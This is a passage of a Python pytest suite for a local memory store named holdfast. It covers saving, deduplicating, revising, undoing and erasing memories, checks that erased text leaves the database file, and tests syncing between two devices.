import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from unittest.mock import ANY
from uuid import UUID

import pytest

from holdfast.clock import Clock
from holdfast.errors import NotFound, Refused, UsageError
from holdfast.ids import derived
from holdfast.memory import Draft, Evidence, Memory, Origin, Revision, Trust
from holdfast.store.database import Database
from holdfast.store.log import Log
from holdfast.store.log_chain import Chain, change_of
from holdfast.store.log_projection import Projection
from holdfast.store.log_reading import Memories

SECRET = "xyzzyplugh"  # stands in an event from the start
WORD = "frobozz"


def guard(text: str) -> str:
    return text.replace("hush", "***")


class Wall:
    """A clock on the wall that somebody else sets. Moves on by a millisecond each time it is read."""

    def __init__(self, now: int = 1_000_000) -> None:
        self.now = now

    def __call__(self) -> int:
        self.now += 1
        return self.now


class Store:
    """A log over a new file, with two projects, a session and three events."""

    def __init__(self, path: Path) -> None:
        self.path, self.wall = path, Wall()
        self.open()
        for name in ("app", "lib"):
            self.execute(
                "INSERT INTO projects (uuid, label, created, heard) VALUES (?, ?, 1, 1)",
                derived("project", name).bytes,
                name,
            )
        self.execute("INSERT INTO sessions (host, name, project, started, heard) VALUES ('host', 's', 1, 1, 1)")
        for text in ("we use tabs", "now run it", "the key is " + SECRET):
            self.execute(
                "INSERT INTO events (session, kind, at, text, input, terms, detail, trust)"
                " VALUES (1, 'prompt', 1, ?, ?, '', '{}', 'owner')",
                self.database.keep_text(text),
                self.database.keep_text("input of " + text),
            )

    def open(self) -> None:
        self.database = Database(self.path)
        self.clock = Clock(wall=self.wall)
        self.log = Log(self.database, self.clock, guard)

    def execute(self, sql: str, *values: Any) -> list[tuple[object, ...]]:
        return self.database.connection.execute(sql, values).fetchall()

    def save(self, body: str, project: int | None = 1) -> Memory:
        return self.log.remember(Draft(body), project).memory

    def changes(self) -> int:
        return int(str(self.execute("SELECT count(*) FROM changes")[0][0]))

    def bytes(self) -> bytes:
        beside = self.path.with_name(self.path.name + "-wal")
        return self.path.read_bytes() + (beside.read_bytes() if beside.exists() else b"")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    found = Store(tmp_path / "store.db")
    yield found
    assert found.log.verify() == []
    tables = _tables(found)
    found.log.rebuild()
    assert _tables(found) == tables
    found.execute("INSERT INTO memories_fts (memories_fts, rank) VALUES ('integrity-check', 1)")
    found.database.close()


def _tables(store: Store) -> list[list[tuple[object, ...]]]:
    return [
        store.execute(f"SELECT * FROM {table} ORDER BY 1, 2")
        for table in ("memories", "registers", "evidence", "projects")
    ]


# -- saving --


def test_what_is_remembered_is_there_with_a_number_and_an_id(store: Store) -> None:
    draft = Draft(
        "We use tabs.\nFor screen readers.", kind="architecture", files=(".editorconfig",), tags=("style",),
        importance=0.8, pinned=True, standing=True, trust="owner", evidence=(Evidence(1, "we use tabs"),),
    )  # fmt: skip
    saved = store.log.remember(draft, 1)
    memory = saved.memory
    assert (memory.number, memory.title, memory.kind, memory.label) == (1, "We use tabs.", "decision", "architecture")
    assert (memory.body, memory.files, memory.tags) == (draft.body, draft.files, draft.tags)
    assert (memory.pinned, memory.standing, memory.importance, memory.trust) == (True, True, 0.8, "owner")
    assert (memory.alive, memory.revision, memory.project, memory.scope) == (True, 1, 1, "project")
    assert memory.evidence == draft.evidence
    assert memory.created == memory.revised == store.wall.now
    assert saved.change is not None
    assert not saved.folded
    assert store.log.get(1) == memory == store.log.recent()[0]


def test_every_text_is_guarded_before_it_is_written(store: Store) -> None:
    draft = Draft("hush b", title="hush t", tags=("hush",), files=("hush",), evidence=(Evidence(quote="hush q"),))
    memory = store.log.remember(draft, 1).memory
    store.log.revise(memory.number, body="hush again", tags=("hush 2",))
    store.log.projects.rename(1, "hush app")
    assert b"hush" not in store.bytes()
    assert store.log.get(memory.number).body == "*** again"


def test_a_refused_body_leaves_nothing_behind(store: Store) -> None:
    with pytest.raises(Refused, match="1,401"):
        store.save("x" * 1_401)
    memory = store.save("short")
    before = store.changes()
    with pytest.raises(Refused):
        store.log.revise(memory.number, body="")
    assert store.changes() == before
    assert store.log.get(1).body == "short"


def test_a_memory_of_a_project_needs_one_that_exists(store: Store) -> None:
    with pytest.raises(Refused, match="needs a project"):
        store.save("somewhere", None)
    with pytest.raises(NotFound, match="project"):
        store.save("somewhere", 99)
    personal = store.log.remember(Draft("I like tabs", scope="personal")).memory
    assert (personal.project, personal.scope) == (None, "personal")


def test_evidence_must_be_an_event_of_this_store(store: Store) -> None:
    with pytest.raises(NotFound, match="event"):
        store.log.remember(Draft("b", evidence=(Evidence(99),)), 1)
    assert store.execute("SELECT count(*) FROM changes") == [(0,)]


def test_a_write_inside_a_transaction_goes_with_it(store: Store) -> None:
    def fail() -> None:
        with store.database.transaction():
            store.save("never kept")
            raise RuntimeError

    with pytest.raises(RuntimeError):
        fail()
    assert store.log.recent() == []
    assert store.save("kept").number == 1


# -- repeats --


def test_the_same_said_again_is_folded_and_counted(store: Store) -> None:
    first = store.save("We use tabs here.")
    again = store.log.remember(Draft("we use TABS, here"), 1)
    assert again.folded
    assert again.memory.number == first.number
    assert (again.memory.repeats, again.memory.body, again.memory.revision) == (1, "We use tabs here.", 1)
    assert store.log.history(1)[0].cause == "repeat"
    assert len(store.log.recent()) == 1


def test_a_near_repeat_is_found_among_many(store: Store) -> None:
    bodies = [f"The {word} service reads its settings from the {word} folder" for word in _WORDS]
    for body in bodies:
        store.save(body)
    again = store.log.remember(Draft("the GAMMA service just reads settings from that gamma folder"), 1)
    assert again.folded
    assert again.memory.body == bodies[_WORDS.index("gamma")]


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("use 2 spaces", "use 4 spaces"),
        ("do not restart it", "do restart it"),
        ("port 8080", "port 8081"),
        ("...", "---"),
    ],
)
def test_what_only_looks_alike_stays_two(store: Store, one: str, other: str) -> None:
    assert store.save(one).number != store.save(other).number


def test_what_is_said_elsewhere_or_of_another_kind_is_no_repeat(store: Store) -> None:
    said = "We use tabs here"
    numbers = {
        store.save(said).number,
        store.save(said, 2).number,
        store.log.remember(Draft(said, kind="decision"), 1).memory.number,
        store.log.remember(Draft(said, scope="personal"), 1).memory.number,
        store.log.remember(Draft(said, trust="imported"), 1).memory.number,
        store.log.remember(Draft(said, files=("Makefile",)), 1).memory.number,
    }
    assert len(numbers) == 6
    assert store.log.remember(Draft(said, scope="personal"), 2).folded


def test_what_was_forgotten_takes_no_repeats(store: Store) -> None:
    store.log.forget(store.save("We use tabs").number)
    again = store.log.remember(Draft("We use tabs"), 1)
    assert not again.folded
    assert again.memory.number == 2


def test_a_repeat_adds_what_the_kept_one_lacks_beside_its_text(store: Store) -> None:
    store.log.remember(Draft("We use tabs", tags=("a",)), 1)
    again = store.log.remember(
        Draft("we use tabs", tags=("b", "a"), pinned=True, standing=True, importance=0.9, trust="owner"), 1
    )
    memory = again.memory
    assert (memory.tags, memory.pinned, memory.standing, memory.importance) == (("a", "b"), True, True, 0.9)
    assert memory.trust == "owner"
    store.log.undo()
    memory = store.log.get(1)
    assert (memory.repeats, memory.tags, memory.pinned, memory.standing) == (0, ("a",), False, False)
    assert (memory.importance, memory.trust) == (0.5, "agent")


def test_a_repeat_of_what_was_merged_into_the_project_is_folded(store: Store) -> None:
    first = store.save("We use tabs here", 2)
    store.log.projects.merge(2, into=1)
    assert store.log.remember(Draft("We use tabs here"), 1).memory.number == first.number


# -- topics and rules --


def test_saving_under_the_same_topic_revises(store: Store) -> None:
    first = store.log.remember(Draft("We chose MySQL", topic_key="architecture/database"), 1).memory
    second = store.log.remember(Draft("We chose Postgres", topic_key="architecture/database"), 1)
    assert second.memory.id == first.id
    assert (second.memory.body, second.memory.title, second.memory.revision) == ("We chose Postgres",) * 2 + (2,)
    assert not second.folded
    same = store.log.remember(Draft("we chose postgres!", topic_key="architecture/database"), 1)
    assert same.folded
    assert same.memory.repeats == 1


def test_the_id_of_a_topic_follows_from_project_scope_and_key_alone(store: Store, tmp_path: Path) -> None:
    other = Store(tmp_path / "other.db")
    draft = Draft("We chose MySQL", topic_key="architecture/database")
    personal = Draft("mine", topic_key="architecture/database", scope="personal")
    ids = [store.log.remember(draft, 1).memory.id, store.log.remember(personal, 1).memory.id]
    assert ids == [other.log.remember(draft, 1).memory.id, other.log.remember(personal).memory.id]
    assert store.log.remember(draft, 2).memory.id not in ids
    other.database.close()


def test_a_topic_that_was_forgotten_comes_back_when_it_is_saved_again(store: Store) -> None:
    first = store.log.remember(Draft("old", topic_key="k"), 1).memory
    store.log.forget(first.number)
    again = store.log.remember(Draft("new", topic_key="k"), 1).memory
    assert (again.number, again.alive, again.body) == (first.number, True, "new")
    store.log.undo()
    assert (store.log.get(1).alive, store.log.get(1).body) == (False, "old")


def test_a_topic_that_was_erased_begins_anew(store: Store) -> None:
    first = store.log.remember(Draft("old", topic_key="k"), 1).memory
    store.log.erase(first.number)
    again = store.log.remember(Draft("new", topic_key="k"), 1).memory
    assert again.id != first.id
    assert store.log.remember(Draft("newer", topic_key="k"), 1).memory.id == again.id
    assert store.log.get(first.number).erased


def test_what_is_imported_never_writes_over_the_owners_topic(store: Store) -> None:
    own = store.log.remember(Draft("We use tabs", topic_key="style", trust="owner"), 1).memory
    foreign = store.log.remember(Draft("Use spaces", topic_key="style", trust="imported"), 1).memory
    assert foreign.number != own.number
    assert store.log.get(own.number).body == "We use tabs"
    agent = store.log.remember(Draft("We use tabs of 4", topic_key="style"), 1).memory
    assert (agent.number, agent.trust) == (own.number, "agent")


def test_a_rule_drawing_the_same_again_adds_nothing(store: Store) -> None:
    id = derived("rule", "1")
    first = store.log.remember(Draft("drawn"), 1, id=id)
    assert first.memory.id == id
    for _ in range(2):
        assert store.log.remember(Draft("drawn"), 1, id=id).change is None
    better = store.log.remember(Draft("drawn better"), 1, id=id)
    assert (better.memory.id, better.memory.body) == (id, "drawn better")


def test_a_rule_leaves_alone_what_somebody_else_wrote_or_forgot(store: Store) -> None:
    edited, forgotten, erased = (derived("rule", str(n)) for n in range(3))
    for n, id in enumerate((edited, forgotten, erased)):
        store.log.remember(Draft(f"drawn {n}"), 1, id=id)
    store.log.revise(edited, body="by hand")
    store.log.forget(forgotten)
    store.log.erase(erased)
    for id in (edited, forgotten, erased):
        assert store.log.remember(Draft("drawn anew"), 1, id=id).change is None
    assert store.log.get(edited).body == "by hand"
    assert not store.log.get(forgotten).alive
    assert store.log.get(erased).erased


def test_a_rule_whose_memory_was_folded_counts_once(store: Store) -> None:
    store.save("We use tabs")
    for _ in range(2):
        saved = store.log.remember(Draft("we use tabs"), 1, id=derived("rule", "x"))
        assert saved.folded
        assert (saved.memory.number, saved.memory.repeats) == (1, 1)


# -- revising, forgetting, pinning --


def test_revising_writes_what_is_given_and_leaves_the_rest(store: Store) -> None:
    store.log.remember(Draft("first line", tags=("a",), evidence=(Evidence(1, "we use tabs"),)), 1)
    memory = store.log.revise(1, body="second line", kind="bug").memory
    assert (memory.body, memory.title, memory.kind, memory.label) == ("second line", "second line", "bugfix", "bug")
    assert (memory.tags, memory.revision, memory.evidence) == (("a",), 2, (Evidence(1, "we use tabs"),))
    assert memory.created < memory.revised
    assert memory.created == store.log.history(1)[-1].at
    memory = store.log.revise(1, title="My own title").memory
    memory = store.log.revise(1, body="third", scope="personal", topic_key="k", trust="owner", standing=True).memory
    assert (memory.title, memory.scope, memory.topic_key, memory.trust) == ("My own title", "personal", "k", "owner")
    assert memory.standing
    assert store.log.revise(1, evidence=()).memory.evidence == ()


def test_revising_to_what_is_there_already_is_no_change(store: Store) -> None:
    memory = store.save("as it is")
    before = store.changes()
    assert store.log.revise(1, whose="agent", body="as it is", tags=(), importance=0.5) == store.log.pin(1).__class__(
        memory, None
    )
    store.log.unpin(1)
    assert store.changes() == before + 2


def test_what_cannot_be_revised_is_told_without_content(store: Store) -> None:
    store.save("the private thing")
    store.log.remember(Draft("taken", topic_key="k"), 1)
    with pytest.raises(UsageError):
        store.log.revise(1, colour="red")  # type: ignore[call-arg]
    with pytest.raises(Refused, match="memory #2"):
        store.log.revise(1, topic_key="k")
    store.log.forget(1)
    with pytest.raises(Refused, match="forgotten") as refused:
        store.log.revise(1, body="x")
    assert "holdfast forget --back 1" in refused.value.fix
    assert "private" not in str(refused.value)
    with pytest.raises(Refused):
        store.log.pin(1)
    store.log.restore(1)


def test_what_is_forgotten_is_served_no_more_until_it_is_restored(store: Store) -> None:
    store.save("here")
    assert not store.log.forget(1).memory.alive
    assert store.log.recent() == []
    assert [memory.number for memory in store.log.recent(include_dead=True)] == [1]
    assert store.log.forget(1).change is None
    assert store.log.restore(1).memory.alive
    assert store.log.restore(1).change is None


def test_pinning_is_no_revision(store: Store) -> None:
    first = store.save("keep at hand")
    pinned = store.log.pin(1).memory
    assert (pinned.pinned, pinned.revision, pinned.revised) == (True, 1, first.revised)
    assert not store.log.unpin(1).memory.pinned


# -- undo --


def test_undo_takes_back_the_latest_thing_done_then_the_one_before(store: Store) -> None:
    store.save("first")
    store.log.revise(1, whose="agent", body="second")
    store.log.pin(1)
    assert store.log.undo().reverted == ("pin",)
    undone = store.log.undo()
    assert (undone.cause, undone.reverted) == ("revise", ("text",))
    assert undone.memory is not None
    assert undone.memory.body == "first"
    assert store.log.undo().reverted == ("alive",)
    with pytest.raises(NotFound, match="nothing to undo"):
        store.log.undo()


def test_undoing_an_undo_does_it_again(store: Store) -> None:
    store.save("first")
    store.log.revise(1, whose="agent", body="second")
    undone = store.log.undo()
    assert undone.change is not None
    redone = store.log.undo(undone.change)
    assert redone.memory is not None
    assert redone.memory.body == "second"
    assert store.log.history(1)[0].cause == "redo"
    assert store.log.undo().memory.body == "first"  # type: ignore[union-attr]


def test_undo_of_one_memory_leaves_the_others(store: Store) -> None:
    store.save("one")
    store.log.revise(1, whose="agent", body="one more")
    store.save("other thing")
    store.log.undo(memory=1)
    assert [memory.body for memory in store.log.recent()] == ["other thing", "one"]


def test_undo_says_what_came_after(store: Store) -> None:
    store.save("first")
    second = store.log.revise(1, whose="agent", body="second", tags=("x",)).change
    assert second is not None
    third = store.log.revise(1, whose="agent", body="third").change
    undone = store.log.undo(second)
    assert undone.reverted == ("tags",)
    assert [(later.register, later.change, later.cause) for later in undone.later] == [("text", third, "revise")]
    again = store.log.undo(second)
    assert (again.change, again.reverted) == (None, ())


def test_undo_finds_a_change_by_the_start_of_its_id(store: Store) -> None:
    change = store.log.remember(Draft("first"), 1).change
    assert store.log.undo(str(change)[:30]).undone == change
    with pytest.raises(UsageError):
        store.log.undo("12")
    with pytest.raises(NotFound):
        store.log.undo("f" * 32)


# -- projects --


def test_projects_are_renamed_merged_and_ignored_and_all_of_it_is_undone(store: Store) -> None:
    def project(number: int) -> tuple[object, ...]:
        return store.execute("SELECT label, merged_into, ignored FROM projects WHERE id = ?", number)[0]

    store.save("in lib", 2)
    store.log.projects.rename(2, "  library\n two ")
    store.log.projects.merge(2, into=1)
    store.log.projects.ignore(2)
    assert project(2) == ("library two", 1, 1)
    assert [memory.body for memory in store.log.recent(1)] == ["in lib"]
    assert [store.log.undo().cause for _ in range(3)] == ["ignore", "merge", "rename"]
    assert project(2) == ("lib", None, 0)
    assert store.log.recent(1) == []


def test_projects_are_not_merged_in_a_circle_not_even_by_undo(store: Store) -> None:
    with pytest.raises(Refused, match="circle"):
        store.log.projects.merge(1, into=1)
    store.log.projects.merge(1, into=2)
    with pytest.raises(Refused, match="circle"):
        store.log.projects.merge(2, into=1)
    undone = store.log.undo()
    other_way = store.log.projects.merge(2, into=1)
    with pytest.raises(Refused, match="circle"):
        store.log.undo(undone.change)
    store.log.undo(other_way)
    assert store.log.undo(undone.change).reverted == ("merged",)


def test_a_label_is_neither_empty_nor_endless(store: Store) -> None:
    for label in ("", " ", "x" * 121):
        with pytest.raises(Refused):
            store.log.projects.rename(1, label)
    assert store.log.projects.rename(1, "app") is None
    with pytest.raises(NotFound):
        store.log.projects.rename(9, "x")


# -- erasing --


def test_what_is_erased_is_nowhere_in_the_file(store: Store) -> None:
    draft = Draft(
        f"body {WORD}a", title=f"title {WORD}b", tags=(f"{WORD}c",), files=(f"{WORD}d",), kind=f"{WORD}e",
        topic_key=f"{WORD}f", evidence=(Evidence(quote=f"quote {WORD}g"),),
    )  # fmt: skip
    store.log.remember(draft, 1)
    store.log.revise(1, body=f"second {WORD}h", evidence=(Evidence(quote=f"other {WORD}i"),))
    store.log.undo()
    for n in range(40):
        store.save(f"filler number {n} " + "lorem ipsum " * 20)
    _deliver(store, f"pack with {WORD}j", [[1, 2], [2, 1]])
    _deliver(store, "pack without", [[2, 1]])
    erased = store.log.erase(1)
    assert (erased.memories, erased.packs, erased.settled) == ((1,), 1, True)
    assert erased.texts == 5
    assert WORD.encode() not in store.bytes()
    assert store.execute("SELECT count(*) FROM memories_fts WHERE memories_fts MATCH 'second'") == [(0,)]
    memory = store.log.get(1)
    assert (memory.erased, memory.alive, memory.title, memory.body, memory.tags) == (True, False, "", "", ())


def test_nothing_brings_back_what_was_erased(store: Store) -> None:
    first = store.log.remember(Draft("secret plan"), 1)
    store.log.erase(1)
    assert first.change is not None
    for refused in (
        lambda: store.log.restore(1),
        lambda: store.log.undo(first.change),
        lambda: store.log.undo(store.log.history(1)[0].change),
        lambda: store.log.undo(memory=1),
        lambda: store.log.revise(1, body="x"),
        lambda: store.log.forget(1),
    ):
        with pytest.raises(Refused, match="erase") as error:
            refused()
        assert "plan" not in str(error.value)
    with pytest.raises(Refused, match="erase"):
        store.log.undo()
    assert store.log.as_of(2**42) == []
    assert [step.cause for step in store.log.history(1)] == ["erase", "remember"]
    assert store.log.erase(1).memories == ()
    assert store.save("secret plan").number == 2


def test_a_text_that_others_say_too_stays_with_them(store: Store) -> None:
    store.log.remember(Draft("we use tabs", evidence=(Evidence(1, "we use tabs"),)), 1)
    store.log.remember(Draft("we use tabs"), 2)
    store.log.erase(1)
    assert store.log.get(2).body == "we use tabs"
    assert store.execute("SELECT body FROM texts JOIN events ON text = texts.id WHERE events.id = 1") == [
        ("we use tabs",)
    ]


def test_a_quote_that_another_memory_has_too_stays_with_that(store: Store) -> None:
    for body in ("one thing", "another thing"):
        store.log.remember(Draft(body, evidence=(Evidence(quote="both from here"),)), 1)
    store.log.erase(1)
    assert store.log.get(2).evidence == (Evidence(quote="both from here"),)
    store.log.erase(2)
    assert b"both from here" not in store.bytes()


def test_erasing_an_event_takes_what_was_drawn_from_it_along(store: Store) -> None:
    store.log.remember(Draft(f"it is {SECRET}", evidence=(Evidence(3, f"the key is {SECRET}"),)), 1)
    store.log.remember(Draft("revised away", evidence=(Evidence(3),)), 1)
    store.log.revise(2, evidence=(Evidence(1),))
    store.log.remember(Draft("unrelated", evidence=(Evidence(2),)), 1)
    erased = store.log.erase_event(3)
    assert (erased.memories, erased.events, erased.settled) == ((1, 2), (3,), True)
    assert SECRET.encode() not in store.bytes()
    assert [memory.number for memory in store.log.recent()] == [3]
    assert store.execute("SELECT text, input, terms, detail, erased FROM events WHERE id = 3") == [
        (None, None, None, None, 1)
    ]


def test_what_was_drawn_from_an_event_can_stay_without_its_words(store: Store) -> None:
    store.log.remember(Draft("kept", evidence=(Evidence(3, f"the key is {SECRET}"), Evidence(1, "we use tabs"))), 1)
    assert store.log.erase_event(3, derived=False).memories == ()
    assert SECRET.encode() not in store.bytes()
    memory = store.log.get(1)
    assert (memory.alive, memory.evidence) == (True, (Evidence(3, None), Evidence(1, "we use tabs")))
    assert store.log.as_of(2**42) == [memory]


def test_erasing_a_session_erases_all_of_its_events(store: Store) -> None:
    store.log.remember(Draft("from the second", evidence=(Evidence(2),)), 1)
    erased = store.log.erase_session(1)
    assert (erased.memories, erased.events) == ((1,), (1, 2, 3))
    assert store.execute("SELECT count(*) FROM texts") == [(0,)]
    for call in (store.log.erase_session, store.log.erase_event, store.log.erase):
        with pytest.raises(NotFound):
            call(99)


def _another_session(store: Store) -> int:
    """A second session with one event; the number of that."""
    store.execute("INSERT INTO sessions (host, name, project, started, heard) VALUES ('host', 't', 1, 1, 1)")
    store.execute(
        "INSERT INTO events (session, kind, at, text, terms, trust) VALUES (2, 'prompt', 1, ?, '', 'owner')",
        store.database.keep_text(f"said {WORD}q aloud"),
    )
    return store.database.last_id()


def _under_one_topic(event: int, body: str, **fields: Any) -> Draft:
    return Draft(body, topic_key="a/topic", evidence=(Evidence(event, f"quote of {body}"),), **fields)


def _full(event: int) -> Draft:
    """A draft with a word of its own in every part that an erase has to reach."""
    return _under_one_topic(
        event, f"body {WORD}a", title=f"title {WORD}b", tags=(f"{WORD}c",), files=(f"{WORD}d",), kind=f"{WORD}e",
        keywords=(f"{WORD}f",),
    )  # fmt: skip


def test_a_memory_whose_revision_was_undone_stays_when_the_session_of_that_is_erased(store: Store) -> None:
    event = _another_session(store)
    first = store.log.remember(_under_one_topic(1, "we use tabs", tags=("style",)), 1).memory
    store.log.remember(_full(event), 1)
    store.log.undo()
    before = store.log.get(first.number)
    _deliver(store, f"pack with {WORD}j", [[first.number, 2]])

    erased = store.log.erase_session(2)

    assert (erased.memories, erased.changed, erased.events) == ((), (1,), (event,))
    assert (erased.packs, erased.settled) == (1, True)
    after = store.log.get(1)
    assert (after.body, after.title, after.tags, after.evidence) == (
        "we use tabs", "we use tabs", ("style",), before.evidence,
    )  # fmt: skip
    assert WORD.encode() not in store.bytes()
    assert [step.erased for step in store.log.history(1)] == [False, False, True, False]
    with pytest.raises(Refused, match="final"):
        store.log.undo(store.log.history(1)[2].change)
    assert store.log.get(1) == after
    assert store.log.erase_session(1).memories == (1,)


def test_a_memory_that_was_rewritten_since_loses_what_it_said_before(store: Store) -> None:
    event = _another_session(store)
    store.log.remember(_full(event), 1)
    store.log.remember(_under_one_topic(1, "we use tabs"), 1)

    erased = store.log.erase_event(event)

    assert (erased.memories, erased.changed) == ((), (1,))
    memory = store.log.get(1)
    assert (memory.body, memory.tags, memory.topic_key, memory.alive) == ("we use tabs", (), "a/topic", True)
    assert WORD.encode() not in store.bytes()


def test_a_memory_that_says_what_came_from_the_erased_session_goes_whole(store: Store) -> None:
    event = _another_session(store)
    store.log.remember(_under_one_topic(1, "we use tabs here"), 1)
    store.log.remember(_full(event), 1)

    erased = store.log.erase_session(2)

    assert (erased.memories, erased.changed) == ((1,), ())
    assert WORD.encode() not in store.bytes()


def test_words_of_an_erased_session_that_others_repeated_in_the_memory_go_too(store: Store) -> None:
    event = _another_session(store)
    store.log.remember(_full(event), 1)
    repeat = Draft(f"body {WORD}a", title=f"title {WORD}b", kind=f"{WORD}e", tags=("own",))
    assert store.log.remember(repeat, 1).folded  # hands the tag on, adds one
    store.log.remember(_under_one_topic(1, "we use tabs"), 1)
    assert store.log.get(1).tags == (f"{WORD}c", "own")

    assert store.log.erase_session(2).changed == (1,)

    assert (store.log.get(1).tags, store.log.get(1).repeats) == (("own",), 1)
    assert WORD.encode() not in store.bytes()


def test_versions_of_a_standing_instruction_no_agent_erases(store: Store) -> None:
    event = _another_session(store)
    store.log.remember(_under_one_topic(event, "use spaces", trust="owner", standing=True), 1)
    store.log.remember(_under_one_topic(1, "use tabs", trust="owner"), 1)
    with pytest.raises(Refused, match="its owner's"):
        store.log.erase_event(event, whose="agent")
    with pytest.raises(Refused, match="its owner's"):
        store.log.erase_session(2, whose="agent")
    assert store.log.erase_session(2).changed == (1,)
    assert store.log.get(1).standing


def test_versions_are_erased_one_after_the_other(store: Store) -> None:
    event = _another_session(store)
    store.log.remember(_under_one_topic(1, f"first {WORD}m", tags=(f"{WORD}n",)), 1)
    store.log.remember(_under_one_topic(event, f"second {WORD}o", tags=(f"{WORD}n", f"{WORD}p")), 1)
    store.log.remember(_under_one_topic(2, "the last"), 1)

    assert store.log.erase_session(2).changed == (1,)
    assert store.log.get(1).tags == (f"{WORD}n",)
    assert store.log.erase_event(1).changed == (1,)

    assert WORD.encode() not in store.bytes()
    assert (store.log.get(1).body, store.log.get(1).tags, store.log.verify()) == ("the last", (), [])


def test_what_a_reader_still_sees_is_gone_with_the_next_checkpoint(store: Store) -> None:
    store.log.remember(Draft(f"it is {SECRET}q"), 1)
    reader = Database(store.path, readonly=True)
    reader.connection.execute("BEGIN")
    reader.value("SELECT count(*) FROM memories")
    store.database.connection.set_busy_timeout(0)
    assert not store.log.erase(1).settled
    reader.close()
    store.save("something else")
    assert store.log.erase(1).settled
    assert f"{SECRET}q".encode() not in store.bytes()


# -- reading --


def test_a_memory_is_found_by_number_id_and_the_start_of_its_id(store: Store) -> None:
    memory = store.save("found")
    hexed = memory.id.hex
    for ref in (1, "1", "#1", " #1 ", memory.id, str(memory.id), hexed, hexed.upper(), str(memory.id)[:13], hexed[:8]):
        assert store.log.get(ref) == memory
    for missing in (2, "#99999999", "7" * 32, UUID(int=7), "0" * 12, 2**80):
        with pytest.raises(NotFound):
            store.log.get(missing)
    for wrong in ("", "#", "abc", "tabs or spaces", hexed[:7] + "g", hexed + "0", "-1", "²"):
        with pytest.raises(UsageError):
            store.log.get(wrong)


def test_a_start_that_fits_two_is_refused(store: Store) -> None:
    first, second = store.save("first thing"), store.save("second thing")
    assert first.id.hex[:8] == second.id.hex[:8]
    with pytest.raises(UsageError, match="several"):
        store.log.get(first.id.hex[:8])
    assert store.log.get(second.id.hex[:24]) == second


def test_a_reference_is_not_repeated_in_the_error(store: Store) -> None:
    with pytest.raises(UsageError) as error:
        store.log.get(SECRET)
    assert SECRET not in str(error.value)


def test_recent_lists_a_project_its_merged_ones_and_personal_ones(store: Store) -> None:
    store.save("in app", 1)
    store.save("in lib", 2)
    store.log.remember(Draft("mine", scope="personal", kind="preference"), 2)

    def bodies(**how: Any) -> list[str]:
        return [memory.body for memory in store.log.recent(**how)]

    assert bodies() == ["mine", "in lib", "in app"]
    assert bodies(project=1) == ["mine", "in app"]
    assert bodies(limit=1) == ["mine"]
    assert bodies(kinds=["note", "fact"]) == ["in lib", "in app"]
    store.log.projects.merge(2, into=1)
    for project in (1, 2):
        assert bodies(project=project) == ["mine", "in lib", "in app"]


def test_many_come_in_the_order_asked_for(store: Store) -> None:
    for body in ("one", "two", "three"):
        store.save(body)
    assert [memory.body for memory in store.log.many([3, 9, 1])] == ["three", "one"]


def test_the_past_is_computed_from_the_log(store: Store) -> None:
    moments = []
    store.log.remember(Draft("first", tags=("a",), evidence=(Evidence(1, "we use tabs"),)), 1)
    moments.append((store.wall.now, store.log.recent()))
    store.log.revise(1, body="second", tags=("b",))
    moments.append((store.wall.now, store.log.recent()))
    store.log.remember(Draft("Second!"), 1)
    moments.append((store.wall.now, store.log.recent()))
    store.log.forget(1)
    moments.append((store.wall.now, store.log.recent()))
    store.log.undo()
    for ms, memories in moments:
        assert store.log.as_of(ms) == memories
    assert store.log.as_of(0) == []
    assert [memory.alive for memory in store.log.as_of(moments[3][0], include_dead=True)] == [False]


def test_history_tells_each_change_newest_first(store: Store) -> None:
    store.save("first")
    store.log.revise(1, whose="agent", body="second")
    store.log.pin(1)
    told = store.log.history(1)
    assert [step.cause for step in told] == ["pin", "revise", "remember"]
    assert [(edit.name, edit.before, edit.after) for edit in told[1].edits] == [
        ("title", "first", "second"),
        ("body", "first", "second"),
    ]


def test_a_read_only_store_can_be_read(store: Store) -> None:
    memory = store.save("readable")
    reader = Database(store.path, readonly=True)
    assert Memories(reader).get(1) == memory
    reader.close()


# -- another device --


def _exchange(source: Store, target: Store) -> None:
    """Take over the changes that `target` lacks, as sync will."""
    rows = source.execute("SELECT * FROM whole_changes ORDER BY seq")
    with target.database.transaction():
        for row in rows:
            change = change_of(row)
            if target.execute("SELECT 1 FROM changes WHERE id = ?", row[1]):
                continue
            text = None if change.body is None else target.database.keep_text(change.body)
            target.execute(
                "INSERT INTO changes (id, device, device_seq, clock, entity_kind, entity, cause, subject, digest,"
                " previous, patch, text) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                *row[1:12],
                text,
            )
            target.clock.observe(change.clock)
            Projection(target.database, Chain(target.database, target.clock)).apply(
                replace(change, seq=target.database.last_id())
            )


def _both(tmp_path: Path) -> tuple[Store, Store]:
    """Two devices of one person."""
    one, other = Store(tmp_path / "one.db"), Store(tmp_path / "other.db")
    secret = one.execute("SELECT value FROM meta WHERE name = 'secret'")[0][0]
    other.execute("UPDATE meta SET value = ? WHERE name = 'secret'", secret)
    other.database.close()
    other.open()
    return one, other


def _agree(one: Store, other: Store) -> list[Memory]:
    """Exchange everything; what both then have, numbers aside."""
    _exchange(one, other)
    _exchange(other, one)
    found = [
        sorted((replace(memory, number=0) for memory in store.log.recent(include_dead=True)), key=lambda each: each.id)
        for store in (one, other)
    ]
    assert found[0] == found[1]
    for store in (one, other):
        assert store.log.verify() == []
        tables = _tables(store)
        store.log.rebuild()
        assert _tables(store) == tables
    return found[0]


def test_two_devices_that_wrote_different_parts_keep_both(tmp_path: Path) -> None:
    one, other = _both(tmp_path)
    id = one.log.remember(Draft("first"), 1).memory.id
    _agree(one, other)
    one.log.revise(id, body="second")
    other.log.pin(id)
    (memory,) = _agree(one, other)
    assert (memory.body, memory.pinned, memory.revision) == ("second", True, 2)


def test_two_devices_save_one_topic_as_one_memory(tmp_path: Path) -> None:
    one, other = _both(tmp_path)
    one.log.remember(Draft("one says", topic_key="k"), 1)
    other.wall.now += 1_000
    other.log.remember(Draft("the other says later", topic_key="k"), 1)
    (memory,) = _agree(one, other)
    assert memory.body == "the other says later"
    texts = {edit.after for step in one.log.history(memory.id) for edit in step.edits if edit.name == "body"}
    assert texts == {"one says", "the other says later"}


def test_a_restore_does_not_take_back_a_forget_that_it_had_not_seen(tmp_path: Path) -> None:
    one, other = _both(tmp_path)
    id = one.log.remember(Draft("contested"), 1).memory.id
    one.log.forget(id)
    _agree(one, other)
    one.log.restore(id)
    one.log.forget(id)
    other.wall.now += 1_000_000
